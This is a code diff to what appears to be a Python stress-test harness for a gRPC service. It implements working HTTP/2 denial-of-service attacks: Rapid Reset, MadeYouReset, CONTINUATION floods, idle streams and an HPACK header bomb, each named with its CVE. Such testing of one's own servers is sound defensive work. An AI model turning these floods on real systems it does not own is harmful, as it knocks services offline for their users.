@@ -15,29 +15,48 @@ SCORE = "/tally.v1.ScoringService/PredictChurn"
 EXPORT = "/tally.v1.PredictionService/ExportPredictions"
 
 
-def flood(address, seconds, frames_of, most, every=50):
-    """Sends the frames of stream after stream until the server ends the connection."""
-    connection, begin, sent = Connection(address), time.monotonic(), 0
-    while sent < most and time.monotonic() - begin < seconds and connection.goaway is None and not connection.closed.is_set():
-        if not connection.send(b"".join(frames_of(connection.stream()) for _ in range(every))):
-            break
-        sent += every
-    connection.closed.wait(2)
-    return {"sent": sent, "outcome": connection.outcome(), "seconds": time.monotonic() - begin}
+def again_and_again(attack, address, seconds):
+    """Repeats an attack on new connections for some seconds; keeps the worst of what it saw."""
+    begin, connections, sent, most, streams, outcomes = time.monotonic(), 0, 0, 0, 0, set()
+    while time.monotonic() - begin < seconds:
+        connection = Connection(address)
+        own = attack(connection, time.monotonic() + 5)
+        connection.closed.wait(2)
+        outcomes.add(connection.outcome())
+        connection.close()
+        connections, sent, most = connections + 1, sent + own, max(most, own)
+        streams = max(streams, (connection.last_stream + 1) // 2)
+    # What was sent runs ahead of what the server has read; GOAWAY says how many streams it has begun.
+    return {"connections": connections, "sent": sent, "most on one": most, "streams begun": streams,
+            "outcomes": sorted(outcomes)}
+
+
+def flood(frames_of, limit, every=50):
+    """An attack that sends the frames of stream after stream until the server ends the connection."""
+
+    def attack(connection, until):
+        sent = 0
+        while sent < limit and time.monotonic() < until and connection.outcome() == "open":
+            if not connection.send(b"".join(frames_of(connection.stream()) for _ in range(every))):
+                break
+            sent += every
+        return sent
+
+    return attack
 
 
 def rapid_reset(address, seconds):
     """D1: streams that are begun and reset at once (CVE-2023-44487)."""
     block, cancel = raw.header_block(SCORE), struct.pack(">I", 8)
-    return flood(address, seconds, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
-                 + frame(RST_STREAM, 0, stream, cancel), 100_000)
+    attack = flood(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel), 100_000)
+    return again_and_again(attack, address, seconds)
 
 
 def made_you_reset(address, seconds):
     """D2: streams whose window overflows, so that the server resets them (CVE-2025-8671)."""
     block, most = raw.header_block(SCORE), struct.pack(">I", (1 << 31) - 1)
-    return flood(address, seconds, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
-                 + frame(WINDOW_UPDATE, 0, stream, most) * 2, 20_000)
+    attack = flood(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, most) * 2, 20_000)
+    return again_and_again(attack, address, seconds)
 
 
 def idle_streams(address, seconds):
@@ -53,34 +72,35 @@ def idle_streams(address, seconds):
 
 
 def continuation(address, seconds):
-    """D4: headers that never end (CVE-2024-27316)."""
-    connection, begin, sent = Connection(address), time.monotonic(), 0
+    """D4: headers that never end (CVE-2024-27316); sent is in bytes."""
     block = raw.header_block(SCORE)
-    connection.send(frame(HEADERS, 0, 1, block))
     piece = frame(CONTINUATION, 0, 1, raw.hpack.Encoder().encode([("x", "y" * 16_000, True)], huffman=False))
-    while time.monotonic() - begin < seconds and connection.goaway is None and sent < 1 << 28:
-        if not connection.send(piece):
-            break
-        sent += len(piece)
-    connection.closed.wait(2)
-    return {"sent": sent, "outcome": connection.outcome(), "seconds": time.monotonic() - begin}
+
+    def attack(connection, until):
+        connection.send(frame(HEADERS, 0, 1, block))
+        sent = len(block)
+        while sent < 1 << 28 and time.monotonic() < until and connection.outcome() == "open" and connection.send(piece):
+            sent += len(piece)
+        return sent
+
+    return again_and_again(attack, address, seconds)
 
 
 def header_bomb(address, seconds):
-    """D5: one header of 4 KiB that the compression repeats 4,000 times, on stream after stream."""
-    connection, begin, answers = Connection(address), time.monotonic(), {}
-    for _ in range(50):
+    """D5: one header of 4 KiB that the compression repeats 4,000 times."""
+    # A literal with incremental indexing, and its index (62) again and again.
+    text = b"z" * 3_900
+    block = raw.header_block(SCORE) + b"\x40\x01x\x7f" + varint(len(text) - 127) + text + b"\xbe" * 4_000
+    answers = set()
+
+    def attack(connection, until):
         stream = connection.stream()
-        # A literal with incremental indexing, and its index (62) again and again.
-        text = b"z" * 3_900
-        literal = b"\x40\x01x\x7f" + varint(len(text) - 127) + text
-        block = raw.header_block(SCORE) + literal + b"\xbe" * 4_000
         connection.send(frame(HEADERS, END_HEADERS | 1, stream, block))
-        answer = connection.status(stream, 5)
-        answers[answer] = answers.get(answer, 0) + 1
-        if connection.closed.is_set() or time.monotonic() - begin > seconds:
-            break
-    return {"answers": answers, "outcome": connection.outcome()}
+        answers.add(connection.status(stream, 5))
+        return len(block)
+
+    seen = again_and_again(attack, address, seconds)
+    return {**seen, "answers": sorted(answers)}
 
 
 def varint(number):
